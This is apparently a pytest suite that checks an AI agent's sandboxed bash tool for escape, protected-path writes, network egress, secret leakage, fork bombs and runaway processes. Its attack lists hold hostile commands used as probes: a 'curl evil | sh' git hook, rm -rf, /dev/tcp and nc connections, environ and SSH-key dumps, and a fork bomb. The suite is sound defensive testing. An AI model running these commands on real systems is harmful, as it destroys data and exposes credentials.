"""The ``bash`` tool under the real OS sandbox: reliability-test-plan.md §7 S1–S7, through the tool.

Each test calls the tool as the runtime does (``ToolRegistry.run`` with a ``ToolContext``) and checks the
host afterwards: canary files and their hashes, a loopback listener's connection count, the process table
(psutil), memory. Skipped, with the probe's reason, where no sandbox can be created (no bwrap, no user
namespaces). On a root host (CI) the sandbox is ``bwrap-idmap``: the command runs as host uid 65534, so the
tests also show that file permissions bind.
"""

from __future__ import annotations

import asyncio
import hashlib
import os
import shutil
import socket
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import psutil
import pytest

from life_tui.journal.blobs import BlobStore
from life_tui.tools import sandbox as sandbox_module
from life_tui.tools.output import OutputCollector
from life_tui.tools.registry import ToolContext, ToolOutput, ToolRegistry
from life_tui.tools.sandbox import SandboxMode, SandboxPolicy, probe
from life_tui.tools.shell import bash_tool

FOUND = probe(SandboxPolicy())
pytestmark = pytest.mark.skipif(not FOUND.available, reason=f"no OS sandbox here: {FOUND.reason}")
POLICY = SandboxPolicy(timeout_s=20, kill_grace_s=0.5)


@dataclass
class Shell:
    workspace: Path
    registry: ToolRegistry
    protected: tuple[Path, ...] = ()
    blobs: BlobStore | None = None
    calls: int = 0

    async def __call__(self, command: str, **arguments: Any) -> ToolOutput:
        self.calls += 1
        ctx = ToolContext(
            workspace=self.workspace,
            session_id="s-test",
            call_id=f"call_{self.calls}",
            blobs=self.blobs,
            protected=self.protected,
        )
        return await self.registry.run("bash", {"command": command, **arguments}, ctx)


def make_shell(workspace: Path, policy: SandboxPolicy | None = None, **kw: Any) -> Shell:
    return Shell(workspace, ToolRegistry([bash_tool(policy or POLICY)]), **kw)


@pytest.fixture(params=["idmap", "userns"])
def mode(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> SandboxMode:
    """Runs a test in both sandbox modes a root host can have: ``bwrap-idmap`` (host uid 65534) and
    ``bwrap-userns`` (uid 65534 inside, root outside, without capabilities; what a root host gets when its
    filesystem refuses idmapped mounts, and what every non-root host gets). Sets the module's POLICY."""
    if request.param == "idmap" and os.geteuid() != 0:
        pytest.skip("bwrap-idmap is the root-host mode; this host runs bwrap-userns")
    policy = replace(POLICY, idmap=request.param == "idmap")
    found = probe(policy)
    wanted = SandboxMode.IDMAP if request.param == "idmap" else SandboxMode.USERNS
    if found.mode is not wanted:
        pytest.skip(f"{wanted.value} is not available here ({found.reason or found.mode.value})")
    monkeypatch.setattr(sys.modules[__name__], "POLICY", policy)
    return wanted


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / "src").mkdir(parents=True)
    (ws / "src" / "app.py").write_text("print('hello')\n")
    return ws


@pytest.fixture
def shell(workspace: Path, tmp_path: Path) -> Shell:
    return make_shell(workspace, blobs=BlobStore(tmp_path / "blobs"))


@pytest.fixture
def outside() -> Iterator[Path]:
    """A directory outside the workspace that the sandbox can see (not under the private /tmp), world
    readable, holding a canary file that must never change."""
    root = Path(tempfile.mkdtemp(prefix="life-tui-outside-", dir="/var/tmp"))
    root.chmod(0o755)
    canary = root / "canary.txt"
    canary.write_text("canary: do not touch\n")
    canary.chmod(0o666)  # even world-writable: only the sandbox stands in the way
    try:
        yield root
    finally:
        shutil.rmtree(root, ignore_errors=True)


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def tree(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): (digest(p) if p.is_file() else "dir") for p in sorted(root.rglob("*"))}


def exit_code(out: ToolOutput) -> int | None:
    return out.data.get("exit_code")


# ------------------------------------------------------------------------------------------ basics
async def test_a_command_runs_in_the_workspace_and_can_write_there(mode: SandboxMode, workspace: Path) -> None:
    shell = make_shell(workspace)
    out = await shell("pwd; echo made > made.txt; cat src/app.py; echo oops >&2; exit 3")
    assert out.content == f"{workspace.resolve()}\nprint('hello')\noops\n[exit code 3]"
    assert not out.is_error
    assert out.data["sandboxed"] is True and out.data["mode"] == mode.value
    made = workspace / "made.txt"
    assert made.read_text() == "made\n"
    # What the sandbox writes belongs to the workspace's owner on the host, not to the sandbox uid.
    assert made.stat().st_uid == workspace.stat().st_uid


async def test_cwd_is_inside_the_workspace_only(shell: Shell, workspace: Path) -> None:
    out = await shell("pwd", cwd="src")
    assert out.content.splitlines()[0] == str(workspace.resolve() / "src")
    for bad in ("..", "/etc", "src/../../"):
        refused = await shell("pwd", cwd=bad)
        assert refused.is_error and "outside the workspace" in refused.content
    missing = await shell("pwd", cwd="nope")
    assert missing.is_error and "not a directory" in missing.content


async def test_the_timeout_is_capped_by_the_policy(workspace: Path) -> None:
    shell = make_shell(workspace, replace(POLICY, max_timeout_s=1.0))
    started = time.monotonic()
    out = await shell("sleep 30", timeout=3600)
    assert out.data["timed_out"] is True
    assert time.monotonic() - started < 1.0 + POLICY.kill_grace_s + 3
    bad = await shell("true", timeout=0)
    assert bad.is_error and "positive" in bad.content


async def test_the_command_runs_as_an_unprivileged_uid_when_the_host_is_root(
    mode: SandboxMode, workspace: Path
) -> None:
    if os.geteuid() != 0:
        pytest.skip("the host is not root: the command runs as the host user")
    shell = make_shell(workspace)
    out = await shell("id -u; id -g; cat /proc/self/status | grep -E '^(Uid|CapEff)'; ls /root")
    lines = out.content.splitlines()
    assert lines[:2] == ["65534", "65534"]
    assert "CapEff:\t0000000000000000" in out.content
    if mode is SandboxMode.IDMAP:
        # uid 65534 on the host too: root's private files are closed to it by plain file permissions.
        assert "Permission denied" in out.content
    else:
        # bwrap-userns on a root host: uid 65534 is only a name for root without capabilities.
        assert "Permission denied" not in out.content


# ---------------------------------------------------------------------------------------------- S1
WRITE_ATTEMPTS = [
    "echo pwned > {c}",
    "echo pwned >> {c}",
    "truncate -s 0 {c}",
    "rm -f {c}",
    "mv {c} {c}.moved",
    "cp /etc/hostname {c}",
    "touch {d}/new-file",
    "mkdir {d}/new-dir",
    "ln -s /etc/passwd {d}/new-link",
    "chmod 000 {c}",
    'python3 -c \'open("{c}", "w").write("pwned")\'',
    "dd if=/dev/zero of={c} bs=1 count=1 conv=notrunc",
    "echo pwned > /proc/self/root{c}",
    "echo pwned > /proc/$$/root{c}",
    "cd {d} && echo pwned > canary.txt",
    "echo pwned > $(realpath --relative-to=. {c})",  # ../../.. from the workspace
    "ln -s {d} escape && echo pwned > escape/canary.txt",  # a symlink made inside, pointing out
    "ln {c} hardlink && echo pwned > hardlink",  # a hardlink to the outside file
    "echo pwned > /etc/life-tui-pwned",
    "echo pwned > /usr/local/bin/life-tui-pwned",
    "echo pwned > {ws}/../life-tui-pwned",  # the workspace's parent is outside it
    "echo pwned > {d}/../life-tui-pwned",
]


@pytest.fixture(params=["under-tmp", "open-parent", "closed-parent"])
def any_workspace(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Path]:
    """Workspaces in the three places that set the sandbox up differently: under /tmp (the sandbox has a
    private /tmp, the workspace is mounted into it), below a world-searchable directory, and below a
    directory closed to others (0700, like /root: as root the sandbox mounts an empty tmpfs there)."""
    if request.param == "under-tmp":
        ws = tmp_path / "ws"
        ws.mkdir()
        yield ws
        return
    parent = Path(tempfile.mkdtemp(prefix="life-tui-ws-", dir="/var/tmp"))
    parent.chmod(0o755 if request.param == "open-parent" else 0o700)
    ws = parent / "ws"
    ws.mkdir()
    try:
        yield ws
    finally:
        shutil.rmtree(parent, ignore_errors=True)


async def test_s1_every_write_outside_the_workspace_fails(
    mode: SandboxMode, any_workspace: Path, outside: Path
) -> None:
    workspace = any_workspace
    shell = make_shell(workspace)
    canary = outside / "canary.txt"
    before, listing = digest(canary), tree(outside)
    parent_before = sorted(p.name for p in workspace.parent.iterdir())
    evil = workspace.parent / (workspace.name + "-evil")  # the /ws vs /ws-evil prefix mix-up
    evil.mkdir()
    (workspace / "pre-existing-link").symlink_to(outside)
    attempts = [a.format(c=canary, d=outside, ws=workspace) for a in WRITE_ATTEMPTS]
    attempts += ["echo pwned > pre-existing-link/canary.txt", f"echo pwned > {evil}/x", f"touch {evil}/../x"]
    for attempt in attempts:
        out = await shell(attempt)
        if ".." not in attempt or not str(workspace).startswith("/tmp/"):
            # (Under /tmp the workspace's parent is the sandbox's own empty tmpfs: writing there is allowed
            # and reaches nothing on the host, which the checks below confirm.)
            assert exit_code(out) != 0, f"{attempt!r} succeeded: {out.content}"
        assert digest(canary) == before, attempt
        assert tree(outside) == listing, attempt
    assert list(evil.iterdir()) == []
    assert sorted(p.name for p in workspace.parent.iterdir()) == sorted([*parent_before, evil.name])
    assert not Path("/etc/life-tui-pwned").exists()
    assert not (outside.parent / "life-tui-pwned").exists()
    # And the workspace itself stays writable from every location.
    out = await shell("echo fine > fine.txt && cat fine.txt")
    assert out.content == "fine\n[exit code 0]"


async def test_s1_reading_ordinary_host_files_works_but_not_writing_them(shell: Shell, outside: Path) -> None:
    """By design the host is visible read-only (as in Claude Code's and Codex's sandboxes)."""
    out = await shell(f"cat {outside / 'canary.txt'}; head -1 /etc/passwd | cut -d: -f1")
    assert out.content == "canary: do not touch\nroot\n[exit code 0]"


async def test_s1_the_host_tmp_is_not_the_sandbox_tmp(shell: Shell, tmp_path: Path) -> None:
    secret = tmp_path / "host-tmp-file"
    secret.write_text("host tmp content\n")
    out = await shell(f"ls /tmp; cat {secret}; echo scratch > /tmp/scratch && cat /tmp/scratch")
    assert "host tmp content" not in out.content
    assert "scratch" in out.content
    assert not Path("/tmp/scratch").exists()


@pytest.mark.slow
async def test_s1_a_symlink_flipped_10000_times_never_lets_a_write_out(
    shell: Shell, workspace: Path, outside: Path
) -> None:
    """The check-then-open race: a thread flips ``link`` between a workspace file and the outside canary
    while the main thread writes through it 10,000 times. The OS decides each write, so there is no
    window; the canary never changes and the workspace target takes the writes."""
    canary = outside / "canary.txt"
    before = digest(canary)
    script = f"""
import os, threading
inside, outside = {str(workspace / "target.txt")!r}, {str(canary)!r}
open(inside, "w").close()
os.symlink(inside, "link")
stop = False
def flip():
    i = 0
    while not stop:
        tmp = "link.tmp"
        os.symlink(outside if i % 2 else inside, tmp)
        os.replace(tmp, "link")
        i += 1
t = threading.Thread(target=flip); t.start()
ok = escaped_errors = 0
for n in range(10_000):
    try:
        with open("link", "a") as f:
            f.write("x")
        ok += 1
    except OSError:
        escaped_errors += 1
stop = True; t.join()
print("writes", ok, "refused", escaped_errors)
"""
    (workspace / "race.py").write_text(script)
    out = await shell("python3 race.py", timeout=60)
    assert exit_code(out) == 0, out.content
    assert digest(canary) == before
    ok = int(out.content.split()[1])
    assert (workspace / "target.txt").stat().st_size == ok  # every successful write landed inside


# ---------------------------------------------------------------------------------------------- S2
@pytest.fixture
def project(workspace: Path) -> tuple[Path, tuple[Path, ...]]:
    """A workspace with git internals, a journal, a keystore and agent/MCP config inside it."""
    git = workspace / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "config").write_text("[core]\n\tbare = false\n")
    (git / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\n")
    journal = workspace / ".journal"
    (journal / "wal").mkdir(parents=True)
    (journal / "wal" / "000001.wal").write_bytes(b"\x00" * 64)
    keys = workspace / ".life" / "keys"
    keys.mkdir(parents=True)
    (keys / "identity.key").write_text("not really a key\n")
    (workspace / ".life" / "config.toml").write_text("[approvals]\nmode = 'default'\n")
    (workspace / ".mcp.json").write_text("{}\n")
    (workspace / ".vscode").mkdir()
    (workspace / ".vscode" / "tasks.json").write_text("{}\n")
    protected = (journal.resolve(), keys.resolve(), (workspace / ".life" / "config.toml").resolve(), git.resolve())
    return workspace, protected


S2_ATTEMPTS = [
    "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
    "echo pwned >> .git/config",
    "git config core.hooksPath /tmp",
    "rm -rf .git/hooks",
    "rm -rf .git",
    "mv .git .git-old",
    "mv .git/hooks .git/hooks-old",
    "echo x > .journal/wal/000002.wal",
    "echo x >> .journal/wal/000001.wal",
    "rm -rf .journal",
    "mv .journal .journal-old",
    "echo x > .life/keys/identity.key",
    "rm .life/keys/identity.key",
    "echo \"mode = 'auto'\" >> .life/config.toml",
    "mv .life .life-old",  # renaming the parent of a protected path
    "rm -rf .life",
    "echo '{\"mcpServers\": {}}' > .mcp.json",
    "echo '{}' > .vscode/settings.json",
    "mv .vscode .vscode-old",
]


async def test_s2_protected_paths_inside_the_workspace_are_not_writable(
    mode: SandboxMode, workspace: Path, project: tuple[Path, tuple[Path, ...]]
) -> None:
    _, protected = project
    shell = make_shell(workspace, protected=protected)
    guarded = [".git", ".journal", ".life", ".mcp.json", ".vscode"]
    before = {
        name: tree(workspace / name) if (workspace / name).is_dir() else digest(workspace / name) for name in guarded
    }
    for attempt in S2_ATTEMPTS:
        out = await shell(attempt)
        assert exit_code(out) != 0, f"{attempt!r} succeeded: {out.content}"
    after = {
        name: tree(workspace / name) if (workspace / name).is_dir() else digest(workspace / name) for name in guarded
    }
    assert after == before
    assert sorted(p.name for p in workspace.iterdir()) == sorted([*guarded, "src"])
    # The rest of the workspace stays writable, the protected files readable.
    out = await shell("echo ok > src/new.py && cat .life/config.toml .git/config | head -1")
    assert out.content == "[approvals]\n[exit code 0]"


# ---------------------------------------------------------------------------------------------- S3
class Listener:
    """A loopback TCP listener that counts the connections it accepts."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.1)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            with conn:
                conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nhi")

    def close(self) -> None:
        self._stop = True
        self._thread.join()
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    try:
        yield server
    finally:
        server.close()


def network_attempts(port: int) -> list[tuple[str, str]]:
    attempts = [
        ("curl", f"curl -sS --max-time 3 http://127.0.0.1:{port}/"),
        ("wget", f"wget -q -T 3 -O - http://127.0.0.1:{port}/"),
        ("python", f"python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 3)'"),
        ("bash", f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"),
        ("nc", f"nc -z -w 3 127.0.0.1 {port}"),
        ("getent", "getent hosts example.com"),
        ("python-dns", "python3 -c 'import socket; print(socket.gethostbyname(\"example.com\"))'"),
    ]
    return [(tool, cmd) for tool, cmd in attempts if tool.startswith("python") or tool == "bash" or shutil.which(tool)]


async def test_s3_no_network_the_listener_sees_zero_connections(
    mode: SandboxMode, workspace: Path, listener: Listener
) -> None:
    shell = make_shell(workspace)
    attempts = network_attempts(listener.port)
    assert {"python", "bash"} <= {t for t, _ in attempts}
    for tool, cmd in attempts:
        out = await shell(cmd)
        assert exit_code(out) != 0, f"{tool}: {out.content}"
        assert "connected" not in out.content.splitlines()[0] if tool == "bash" else True
    out = await shell("ip -o link 2>/dev/null || cat /proc/net/dev")
    assert "eth" not in out.content and "ens" not in out.content  # only a loopback in the namespace
    await asyncio.sleep(0.2)
    assert listener.accepted == 0


async def test_s3_host_unix_sockets_are_out_of_reach(mode: SandboxMode, workspace: Path) -> None:
    """A daemon's Unix socket under /run (systemd, dbus, docker...) cannot be reached: connect() needs no
    write access, so a read-only mount would not stop it; the sandbox's /run is empty."""
    path = Path(f"/run/life-tui-test-{os.getpid()}.sock")
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        server.bind(str(path))
    except OSError as exc:
        server.close()
        pytest.skip(f"cannot create a socket under /run here: {exc}")
    path.chmod(0o777)  # even open to everyone
    server.listen(4)
    server.settimeout(0.05)
    accepted = 0
    try:
        shell = make_shell(workspace)
        probe_cmd = f"python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"{path}\")'"
        assert (await shell("ls -A /run")).content == "[exit code 0]"  # empty
        out = await shell(probe_cmd)
        assert exit_code(out) != 0
        assert "No such file or directory" in out.content
        for _ in range(5):
            try:
                conn, _ = server.accept()
                conn.close()
                accepted += 1
            except OSError:
                pass
        assert accepted == 0
    finally:
        server.close()
        path.unlink(missing_ok=True)


async def test_s3_with_network_allowed_the_same_connection_arrives(workspace: Path, listener: Listener) -> None:
    """The control: the test's listener is reachable when the policy allows the network."""
    shell = make_shell(workspace, replace(POLICY, network=True))
    tool = bash_tool(replace(POLICY, network=True))
    assert tool.capabilities_for({"command": "curl x"}) == ["exec:cmd:curl", "net:egress:*"]
    out = await shell(f"exec 3<>/dev/tcp/127.0.0.1/{listener.port} && echo connected")
    assert out.content.startswith("connected"), out.content
    for _ in range(50):
        if listener.accepted:
            break
        await asyncio.sleep(0.05)
    assert listener.accepted == 1


# ---------------------------------------------------------------------------------------------- S4
CANARIES = {
    "OPENAI_API_KEY": "canary-openai-1f3a",
    "ANTHROPIC_API_KEY": "canary-anthropic-2b4c",
    "GITHUB_TOKEN": "canary-token-3c5d",
    "MY_SERVICE_SECRET": "canary-secret-4d6e",
    "AWS_SECRET_ACCESS_KEY": "canary-aws-5e7f",
    "AWS_ACCESS_KEY_ID": "canary-awsid-6f80",
    "DATABASE_PASSWORD": "canary-password-7091",
    "INNOCENT_LOOKING": "canary-not-allowlisted-81a2",
}


async def test_s4_no_secret_reaches_the_command(
    mode: SandboxMode, workspace: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    shell = make_shell(workspace, blobs=BlobStore(tmp_path / "blobs"))
    for name, value in CANARIES.items():
        monkeypatch.setenv(name, value)
    out = await shell(
        "env; cat /proc/self/environ; cat /proc/$PPID/environ; cat /proc/1/environ; "
        "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done; set"
    )
    assert exit_code(out) == 0
    data = out.content
    if out.data.get("output_blob") and shell.blobs is not None:
        data += shell.blobs.get(out.data["output_blob"]).decode()
    for value in CANARIES.values():
        assert value not in data
    assert "HOME=" in data and "PATH=" in data


async def test_s4_secret_locations_are_hidden(
    mode: SandboxMode, workspace: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Key and credential locations read as empty even where file permissions would allow the read."""
    ssh = outside / "home" / ".ssh"
    ssh.mkdir(parents=True)
    (ssh / "id_ed25519").write_text("canary-private-key-9b3c\n")
    (outside / "home").chmod(0o755)
    ssh.chmod(0o755)
    (ssh / "id_ed25519").chmod(0o644)
    netrc = outside / "home" / ".netrc"
    netrc.write_text("machine x password canary-netrc-a4d5\n")
    netrc.chmod(0o644)
    life_home = outside / "life-home"  # life-tui's own keys and config, outside the private /tmp
    (life_home / "data" / "keys").mkdir(parents=True)
    (life_home / "data" / "keys" / "wallet.json").write_text("canary-wallet-b5e6\n")
    (life_home / "config").mkdir()
    (life_home / "config" / "config.toml").write_text("api_key = 'canary-config-c6f7'\n")
    for p in [life_home, *life_home.rglob("*")]:
        p.chmod(0o755 if p.is_dir() else 0o644)
    monkeypatch.setenv("LIFE_HOME", str(life_home))
    policy = replace(POLICY, secret_paths=(str(ssh), str(netrc)))
    shell = make_shell(workspace, policy)
    out = await shell(
        f"ls -la {ssh}; cat {ssh}/id_ed25519; cat {netrc}; cat {life_home}/data/keys/wallet.json; "
        f"cat {life_home}/config/config.toml; find {life_home} -type f"
    )
    for canary in ("canary-private-key", "canary-netrc", "canary-wallet", "canary-config"):
        assert canary not in out.content
    # Without the policy's mask the same file is readable: the test would catch a broken mask.
    plain = make_shell(workspace, replace(POLICY, secret_paths=()))
    assert "canary-private-key" in (await plain(f"cat {ssh}/id_ed25519")).content


# ---------------------------------------------------------------------------------------------- S5
def our_descendants() -> set[int]:
    return {p.pid for p in psutil.Process().children(recursive=True)}


async def wait_for_baseline(baseline: int, slack: int = 10, within_s: float = 5.0) -> int:
    """Host process count, polled until it is back within ``slack`` of ``baseline`` (others run too)."""
    deadline = time.monotonic() + within_s
    count = len(psutil.pids())
    while count > baseline + slack and time.monotonic() < deadline:
        await asyncio.sleep(0.1)
        count = len(psutil.pids())
    return count


async def test_s5_a_fork_bomb_is_stopped(mode: SandboxMode, workspace: Path) -> None:
    shell = make_shell(workspace, replace(POLICY, max_processes=64))
    baseline, mine = len(psutil.pids()), our_descendants()
    peak = 0

    async def watch() -> None:
        nonlocal peak
        while True:
            peak = max(peak, len(our_descendants() - mine))
            await asyncio.sleep(0.05)

    watcher = asyncio.ensure_future(watch())
    started = time.monotonic()
    try:
        out = await shell("bomb() { bomb | bomb & }; bomb; sleep 2; echo still here", timeout=4)
    finally:
        watcher.cancel()
    elapsed = time.monotonic() - started
    assert elapsed < 4 + POLICY.kill_grace_s + 3
    assert peak <= 64 + 4  # the limit held (plus bwrap, its init and the watcher's own lag)
    assert "Resource temporarily unavailable" in out.content or out.data["process_limit_hits"] > 0
    assert out.data["survivors"] == []
    assert await wait_for_baseline(baseline) <= baseline + 10
    assert our_descendants() - mine == set()


async def test_s5_a_huge_file_is_stopped_by_the_file_size_limit(workspace: Path) -> None:
    limit = 8 << 20
    shell = make_shell(workspace, replace(POLICY, file_size_bytes=limit))
    started = time.monotonic()
    out = await shell("dd if=/dev/zero of=huge bs=1M count=10240 status=none")
    assert time.monotonic() - started < 10
    assert exit_code(out) != 0
    # SIGXFSZ kills a child process; the namespace's PID 1 ignores it and gets EFBIG from write().
    assert any(s in out.content for s in ("File size limit exceeded", "SIGXFSZ", "File too large"))
    assert (workspace / "huge").stat().st_size <= limit
    out = await shell('fallocate -l 10G huge2 || python3 -c \'open("huge3","wb").truncate(10<<30)\'')
    assert exit_code(out) != 0, out.content
    for name in ("huge2", "huge3"):
        assert not (workspace / name).exists() or (workspace / name).stat().st_size <= limit


async def test_s5_a_memory_hog_is_stopped(workspace: Path) -> None:
    shell = make_shell(workspace, replace(POLICY, address_space_bytes=512 << 20))
    started = time.monotonic()
    out = await shell("python3 -c 'b = bytearray(4 << 30); print(len(b))'")
    assert time.monotonic() - started < 10
    assert exit_code(out) != 0
    assert "MemoryError" in out.content


# ---------------------------------------------------------------------------------------------- S6
async def test_s6_a_flood_keeps_memory_bounded_and_the_model_sees_10_kib(shell: Shell) -> None:
    rss_before = psutil.Process().memory_info().rss
    out = await shell("yes | head -c 200M; echo; echo THE END")
    rss_growth = psutil.Process().memory_info().rss - rss_before
    assert exit_code(out) == 0
    assert out.data["output_bytes"] == 200 * 1024 * 1024 + len("\nTHE END\n")
    assert out.data["truncated"] is True
    assert len(out.content.encode()) <= 10 * 1024 + 200  # the view plus the status line
    assert out.content.startswith("y\ny\n")
    assert out.content.endswith("THE END\n[exit code 0]")
    assert "bytes omitted; output kept" in out.content
    assert rss_growth < 50 << 20
    assert shell.blobs is not None
    kept = shell.blobs.get(out.data["output_blob"])
    assert len(kept) <= (1 << 20) + 200  # at most 1 MiB kept (plus the marker)


async def test_s6_escape_sequences_are_neutralised(shell: Shell) -> None:
    out = await shell(
        r"printf '\033[31mred\033[0m \033]0;evil title\007 \033]52;c;SGVsbG8=\007 \033[2J\033[H"
        r"\033]8;;https://evil.example\033\\link\033]8;;\033\\ bell\007 \r\n'"
    )
    assert "\x1b" not in out.content and "\x07" not in out.content
    assert out.content.startswith("red   ")
    assert "link" in out.content and "evil title" not in out.content
    assert "bell␇" in out.content


async def test_s6_invalid_utf8_and_cuts_inside_characters_are_safe(shell: Shell) -> None:
    out = await shell(r"printf 'ok \xff\xfe \xc3( end\n'")
    assert out.content.startswith("ok \ufffd\ufffd \ufffd( end\n")
    # 40,000 four-byte characters: every cut would split one if cut on bytes.
    out = await shell('python3 -c \'print("😀" * 40000, end="")\'')
    assert out.data["output_bytes"] == 160_000
    assert "\ufffd" not in out.content
    assert len(out.content.encode()) <= 10 * 1024 + 200
    assert out.content.startswith("😀😀") and "😀\n[exit code 0]" in out.content


async def test_s6_flood_cut_at_one_mib_while_streaming(workspace: Path) -> None:
    """The collector itself never holds more than keep_bytes (checked on the tool's own collector)."""
    policy = replace(POLICY, keep_bytes=1 << 20)
    seen: list[int] = []
    original = OutputCollector.feed

    def spy(self: OutputCollector, chunk: bytes) -> None:
        original(self, chunk)
        seen.append(self.kept)

    shell = make_shell(workspace, policy)
    try:
        OutputCollector.feed = spy  # type: ignore[method-assign]
        out = await shell("head -c 20M /dev/urandom | base64 -w 100")
    finally:
        OutputCollector.feed = original  # type: ignore[method-assign]
    assert out.data["output_bytes"] > 20 << 20
    assert max(seen) <= 1 << 20


# ---------------------------------------------------------------------------------------------- S7
def alive_with(arg: str) -> list[psutil.Process]:
    found = []
    for proc in psutil.process_iter(["cmdline", "status"]):
        cmdline = proc.info["cmdline"] or []
        if arg in cmdline and proc.info["status"] != psutil.STATUS_ZOMBIE:
            found.append(proc)
    return found


@pytest.mark.parametrize(
    ("name", "command"),
    [
        ("sleep", "sleep {n}"),
        ("daemon", "setsid nohup sleep {n} > /dev/null 2>&1 & sleep {n}"),
        ("ignores-sigterm", "trap '' TERM; sleep {n} & trap '' TERM; wait"),
        (
            "python-ignores-sigterm",
            "python3 -c 'import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep({n})'",
        ),
    ],
)
async def test_s7_the_timeout_kills_the_whole_tree(mode: SandboxMode, workspace: Path, name: str, command: str) -> None:
    n = f"3600.{os.getpid()}{len(name)}"  # a unique argument to find survivors anywhere on the host
    shell = make_shell(workspace, replace(POLICY, kill_grace_s=0.5))
    mine = our_descendants()
    seen: set[int] = set()

    async def watch() -> None:
        while True:
            seen.update(our_descendants() - mine)
            await asyncio.sleep(0.05)

    watcher = asyncio.ensure_future(watch())
    started = time.monotonic()
    try:
        out = await shell(command.format(n=n), timeout=1)
    finally:
        watcher.cancel()
    elapsed = time.monotonic() - started
    assert out.data["timed_out"] is True, out.content
    assert out.is_error
    assert "timed out after 1 s" in out.content
    assert elapsed < 1 + 0.5 + 2.5
    assert out.data["survivors"] == []
    assert seen  # the watcher saw the tree while it ran
    assert alive_with(n) == []
    assert [p for p in seen if psutil.pid_exists(p) and psutil.Process(p).status() != psutil.STATUS_ZOMBIE] == []


async def test_s7_background_processes_end_with_the_command(mode: SandboxMode, workspace: Path) -> None:
    shell = make_shell(workspace)
    """A command that returns at once still takes the daemons it started along (the namespace ends)."""
    n = f"3601.{os.getpid()}"
    started = time.monotonic()
    out = await shell(f"setsid nohup sleep {n} > /dev/null 2>&1 & echo started")
    assert out.content == "started\n[exit code 0]"
    out = await shell(f"(setsid sleep {n} &); echo started")  # a daemon that keeps the output pipe open
    assert out.content == "started\n[exit code 0]"
    assert time.monotonic() - started < 3
    await asyncio.sleep(0.2)
    assert alive_with(n) == []


async def test_a_filesystem_that_refuses_idmapped_mounts_falls_back_to_userns(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a root host, a workspace whose filesystem cannot be idmapped (NFS, 9p...) still runs sandboxed,
    in bwrap-userns mode, and that filesystem is remembered for the next calls."""
    if probe(POLICY).mode is not SandboxMode.IDMAP:
        pytest.skip("bwrap-idmap is not this host's mode")

    def refuse(self: object) -> None:
        raise OSError(22, "mount_setattr(MOUNT_ATTR_IDMAP): Invalid argument")

    monkeypatch.setattr(sandbox_module._Idmap, "apply", refuse)
    monkeypatch.setattr(sandbox_module, "_NO_IDMAP", set())
    shell = make_shell(workspace)
    for _ in range(2):
        out = await shell("echo fine > fine.txt && cat fine.txt")
        assert out.content == "fine\n[exit code 0]"
        assert out.data["mode"] == SandboxMode.USERNS.value
    assert {workspace.stat().st_dev} == sandbox_module._NO_IDMAP


async def test_s7_the_sandbox_dies_with_the_agent(mode: SandboxMode, workspace: Path) -> None:
    """If the agent process is killed mid-command (SIGKILL: no cleanup runs), bubblewrap's parent-death
    signal takes the command and its daemons down with it."""
    n = f"3604.{os.getpid()}{len(mode.value)}"
    script = (
        "import asyncio, sys\n"
        "from pathlib import Path\n"
        "from life_tui.tools.sandbox import Sandbox, SandboxPolicy\n"
        f"policy = SandboxPolicy(idmap={mode is SandboxMode.IDMAP})\n"
        f"cmd = 'setsid sleep {n} & sleep {n}'\n"
        f"asyncio.run(Sandbox(policy).run(cmd, workspace=Path({str(workspace)!r}), timeout_s=60))\n"
    )
    agent = await asyncio.create_subprocess_exec(sys.executable, "-c", script)
    try:
        for _ in range(200):
            if len(alive_with(n)) == 2:
                break
            await asyncio.sleep(0.05)
        assert len(alive_with(n)) == 2
    finally:
        agent.kill()
        await agent.wait()
    for _ in range(40):
        if not alive_with(n):
            break
        await asyncio.sleep(0.05)
    assert alive_with(n) == []


async def test_s7_cancelling_the_call_kills_the_tree(workspace: Path) -> None:
    """A run cancelled mid-command (the user's Ctrl-C, the registry's backstop timeout) leaves nothing."""
    n = f"3606.{os.getpid()}"
    shell = make_shell(workspace)
    task = asyncio.ensure_future(shell(f"setsid sleep {n} & sleep {n}"))
    for _ in range(100):
        if len(alive_with(n)) == 2:
            break
        await asyncio.sleep(0.05)
    assert len(alive_with(n)) == 2
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    await asyncio.sleep(0.1)
    assert alive_with(n) == []
